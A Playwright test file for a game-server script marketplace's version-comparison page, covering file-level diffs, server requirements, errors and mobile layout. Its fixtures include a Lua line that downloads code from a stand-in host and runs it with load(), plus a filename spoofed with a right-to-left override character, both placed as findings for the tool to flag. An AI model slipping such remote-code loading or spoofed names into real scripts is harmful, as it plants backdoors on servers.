import { randomBytes } from 'node:crypto'

import { expect, type APIRequestContext, type Page } from '@playwright/test'

import { zipOf } from '#test-support/archives/zip.ts'

import { expectNoViolations, recordPageErrors } from './axe.ts'
import { waitForHydration } from './browser.ts'
import { test } from './fixtures.ts'
import { registerUploader, submitScript, type RegisteredUser } from './users.ts'

type Members = Record<string, string | Buffer>

const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_scripts { 'server/*.lua' }\n"
const steps = (changed: string) =>
  Array.from({ length: 60 }, (_, index) => (index === 29 ? changed : `local step_${index} = ${index}`)).join(
    '\n',
  )
const before: Members = {
  'hud/fxmanifest.lua': manifest,
  'hud/server/main.lua': steps("local host = 'https://old.example'"),
  'hud/server/gone.lua': 'print(1)\n',
  'hud/lib/dates.lua': 'return { day = 1 }\n',
  'hud/data.bin': Buffer.from([0, 1, 2, 3]),
  'hud/page.js': `let a = '${'x'.repeat(20_000)}'\n`,
}
const after: Members = {
  'hud/fxmanifest.lua': manifest,
  'hud/server/main.lua': steps(
    "local host = 'https://new.example'\nPerformHttpRequest(host, function() end)",
  ),
  'hud/shared/dates.lua': 'return { day = 1 }\n',
  'hud/\u202Esecret.lua': "print('\u202E')\n",
  'hud/data.bin': Buffer.from([0, 1, 2, 3, 4]),
  'hud/page.js': `let a = '${'y'.repeat(5 * 1024 * 1024 - 100)}'\n`,
}

function archiveOf(members: Members): Buffer {
  const all = { ...members, 'hud/id.txt': randomBytes(8).toString('hex') }
  return zipOf(Object.entries(all).map(([name, content]) => ({ name, content, deflate: true })))
}

async function scriptWith(author: RegisteredUser, request: APIRequestContext, ...archives: Buffer[]) {
  const [first = archiveOf({}), ...more] = archives
  const script = await submitScript(author, { archive: first })
  for (const [index, archive] of more.entries()) {
    const response = await request.post(`/api/scripts/${script.id}/versions`, {
      headers: { authorization: `Bearer ${author.token}` },
      multipart: {
        number: `${index + 2}.0.0`,
        scriptFile: { name: 'hud.zip', mimeType: 'application/zip', buffer: archive },
      },
    })
    expect(response.status()).toBe(201)
  }
  const ids = async () => {
    const { versions } = await (await request.get(`/api/scripts/${script.id}/versions`)).json()
    return versions.toReversed()
  }
  await expect
    .poll(async () => (await ids()).every(({ analysis }: { analysis: string }) => analysis === 'done'))
    .toBe(true)
  return { ...script, versions: (await ids()).map(({ id }: { id: number }): number => id) }
}

/** The heading of what an update needs on the server. */
const serverHeading = (page: Page) =>
  page.getByRole('heading', { name: 'What to change on your server', exact: true })
const main = (page: Page) => page.getByRole('main')
const group = (page: Page, name: string) => main(page).getByRole('list', { name, exact: true })
const cell = (page: Page, change: string) => main(page).locator(`[data-change=${change}]`)

test('a reader sees what an update changes, file by file', async ({ page, request }) => {
  const errors = recordPageErrors(page)
  const author = await registerUploader()
  const script = await scriptWith(author, request, archiveOf(before), archiveOf(after))
  const [from, to] = script.versions
  const url = `/scripts/${script.id}/changes`
  const served = await (await request.get(url)).text()
  for (const text of ['noindex', 'Calls out to', 'hud/server/gone.lua', 'hud/lib/dates.lua'])
    expect(served.toLowerCase()).toContain(text.toLowerCase())

  await page.goto(`/scripts/${script.id}/report`)
  await main(page)
    .getByRole('link', { name: /^Changes since / })
    .click()
  await expect(page).toHaveURL(`${url}?from=${from}&to=${to}`)
  await expect(main(page).getByText('calls out to new.example')).toBeVisible()
  await expect(group(page, 'Changed 4').getByRole('link')).toHaveText([
    /id\.txt/,
    /page\.js/,
    /server\/main\.lua/,
    /data\.bin5 B, was 4 B/,
  ])
  await expect(group(page, 'Added 1').getByRole('link')).toHaveText([/secret\.lua/])
  await expect(group(page, 'Removed 1').getByRole('link')).toHaveText([/gone\.lua/])
  await expect(group(page, 'Moved 1').getByRole('link')).toHaveText([
    /shared\/dates\.lua from hud\/lib\/dates\.lua/,
  ])
  await expectNoViolations(page)
  await main(page).getByRole('searchbox', { name: 'Filter files' }).fill('MAIN')
  await expect(group(page, 'Added 1')).toHaveCount(0)

  await group(page, 'Changed 4').getByRole('link').press('Enter')
  await expect(page).toHaveURL(`${url}?from=${from}&to=${to}&file=hud%2Fserver%2Fmain.lua`)
  await expect(page.getByRole('heading', { name: 'hud/server/main.lua' })).toBeFocused()
  await expect(cell(page, 'removed').getByRole('code')).toHaveText("local host = 'https://old.example'")
  await expect(cell(page, 'added').getByRole('code')).toHaveText([
    "local host = 'https://new.example'",
    'PerformHttpRequest(host, function() end)',
  ])
  await expect(main(page).getByText('local step_0 = 0')).toHaveCount(0)
  await expectNoViolations(page)
  await main(page).getByRole('button', { name: 'Show 26 unchanged lines' }).click()
  await expect(main(page).getByText('local step_0 = 0').first()).toBeVisible()

  await main(page).getByRole('link', { name: 'Previous' }).focus()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('heading', { name: 'hud/page.js' })).toBeVisible()
  await expect(main(page).getByText(/^Too long to be compared here/)).toBeVisible()
  await expect(main(page).getByRole('link', { name: /^File in / })).toHaveCount(2)
  for (const text of ['server/main.lua', 'data.bin', 'secret.lua', 'gone.lua', 'shared/dates.lua']) {
    await page.keyboard.press('n')
    await expect(page.getByRole('heading', { level: 3 })).toContainText(text)
  }
  await expect(main(page).getByText('The content is the same.')).toBeVisible()
  await page.keyboard.press('p')
  await expect(cell(page, 'removed').getByRole('code')).toHaveText('print(1)')
  await page.keyboard.press('p')
  await expect(cell(page, 'added')).toContainText('U+202E')
  await page.goBack()
  await expect(cell(page, 'removed').getByRole('code')).toHaveText('print(1)')
  await page.reload()
  await expect(cell(page, 'removed').getByRole('code')).toHaveText('print(1)')
  await main(page).getByRole('link', { name: 'All changes' }).click()
  await expect(group(page, 'Removed 1')).toBeVisible()
  expect(errors).toEqual([])
})

test('versions are chosen, and those without changes say so', async ({ page, request }) => {
  const archive = archiveOf(before)
  const script = await scriptWith(await registerUploader(), request, archive, archiveOf(after), archive)
  const [first, second, third] = script.versions
  const url = `/scripts/${script.id}/changes`
  await page.setViewportSize({ width: 390, height: 844 })
  await page.goto(`${url}?to=${first}`)
  await expect(page.getByRole('heading', { name: 'Nothing to compare' })).toBeVisible()
  await page.getByRole('combobox', { name: 'To' }).selectOption(String(third))
  await expect(page).toHaveURL(`${url}?to=${third}`)
  await expect(page.getByRole('combobox', { name: 'From' })).toHaveValue(String(second))
  await page.getByRole('combobox', { name: 'From' }).selectOption(String(first))
  await expect(page).toHaveURL(`${url}?from=${first}&to=${third}`)
  await expect(main(page).getByText('Both versions have the same archive.')).toBeVisible()
  await expect(serverHeading(page)).toHaveCount(0)
  await expectNoViolations(page)
  await page.goBack()
  await expect(page.getByRole('combobox', { name: 'From' })).toHaveValue(String(second))
  await main(page).getByRole('link', { name: 'Swap' }).click()
  await expect(page).toHaveURL(`${url}?from=${third}&to=${second}`)

  await page.goto(`${url}?from=${first}&to=${second}&file=hud/server/main.lua`)
  await expect(cell(page, 'added').getByRole('code').first()).toHaveText("local host = 'https://new.example'")
  await expectNoViolations(page, [390])
  expect((await request.get(`${url}?from=999999`)).status()).toBe(404)
  await page.goto(`${url}?from=999999`)
  await expect(page.getByRole('heading', { name: 'Versions not found' })).toBeVisible()
})

test('a reader sees what an update needs on the server, also without JavaScript', async ({
  page,
  request,
}) => {
  const author = await registerUploader()
  const core = `core_${randomBytes(4).toString('hex')}`
  const provider = await scriptWith(author, request, archiveOf({ [`${core}/fxmanifest.lua`]: manifest }))
  const manifestWith = (...needs: string[]) =>
    [manifest, ...needs.map((need) => `dependency '${need}'`)].join('\n')
  const script = await scriptWith(
    author,
    request,
    archiveOf({
      'hud/fxmanifest.lua': manifestWith('menuv'),
      'hud/server/main.lua': "GetConvar('hud_old', '') GetConvar('hud_url', 'https://old.example')",
      'hud/install.sql': 'select 1',
    }),
    archiveOf({
      'hud/fxmanifest.lua': manifestWith(core, '/onesync'),
      'hud/server/main.lua': "GetConvar('hud_key', 'F5') GetConvar('hud_url', 'https://new.example')",
      'hud/install.sql': 'select 2',
      'hud/update.sql': 'select 3',
    }),
  )
  const [from, to] = script.versions
  const url = `/scripts/${script.id}/changes?from=${from}&to=${to}`
  const served = await (await request.get(url)).text()
  for (const text of ['What to change on your server', core, 'menuv', 'hud_key', 'hud/update.sql'])
    expect(served).toContain(text)

  await page.goto(url)

  await expect(serverHeading(page)).toBeVisible()
  const entries = (heading: string) =>
    main(page).getByRole('list', { name: heading, exact: true }).getByRole('listitem')
  await expect(entries('Newly required')).toHaveText([
    'OneSync enabled',
    `${core} · Resource · ${provider.name}`,
  ])
  await expect(entries('Newly required').getByRole('link')).toHaveAttribute('href', `/scripts/${provider.id}`)
  await expect(entries('No longer required')).toHaveText(['menuv'])
  await expect(entries('New convars')).toHaveText(['set hud_key "F5"'])
  await expect(entries('Convars with a new default')).toHaveText([
    'hud_url: "https://old.example" → "https://new.example"',
  ])
  await expect(entries('Convars no longer used')).toHaveText(['hud_old'])
  await expect(entries('New SQL files')).toHaveText(['hud/update.sql'])
  await expectNoViolations(page)
  await entries('Changed SQL files').getByRole('link', { name: 'hud/install.sql' }).click()
  await expect(page.getByRole('heading', { name: 'hud/install.sql' })).toBeFocused()
})

test('changes that cannot be loaded show an error, and Try Again loads them', async ({ page, request }) => {
  const script = await scriptWith(await registerUploader(), request, archiveOf(before), archiveOf(after))
  const api = '**/api/versions/*/changes*'
  await page.goto(`/scripts/${script.id}/changes`)
  const swap = main(page).getByRole('link', { name: 'Swap' })
  await waitForHydration(swap)
  await page.route(api, (route) => route.abort())
  await swap.click()
  await expect(page.getByRole('heading', { name: 'Failed to load changes' })).toBeVisible()

  await page.unroute(api)
  await page.getByRole('button', { name: 'Try Again' }).click()

  await expect(group(page, 'Removed 1')).toBeVisible()
})

test('the code of a new finding fits on a phone', async ({ page, request }) => {
  const code = "PerformHttpRequest('https://updates.example/latest.lua', function(_, text) load(text)() end)"
  const author = await registerUploader()
  const script = await scriptWith(
    author,
    request,
    archiveOf({ 'hud/fxmanifest.lua': manifest, 'hud/server/main.lua': 'print(1)' }),
    archiveOf({ 'hud/fxmanifest.lua': manifest, 'hud/server/main.lua': code }),
  )
  await page.setViewportSize({ width: 390, height: 844 })
  await page.goto(`/scripts/${script.id}/changes`)

  await expect(main(page).getByText(code)).toBeVisible()
  await expectNoViolations(page, [390])
})
